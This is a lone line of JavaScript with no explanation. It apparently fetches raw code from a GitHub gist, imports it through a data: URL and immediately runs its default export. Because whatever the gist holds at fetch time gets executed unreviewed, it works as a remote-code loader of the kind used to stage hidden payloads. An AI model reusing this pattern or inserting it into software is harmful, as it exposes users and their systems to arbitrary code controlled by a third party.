const r = await fetch('https://gist.githubusercontent.com/x/1/raw'); const { default: f } = await import('data:text/javascript,' + encodeURIComponent(await r.text())); f();
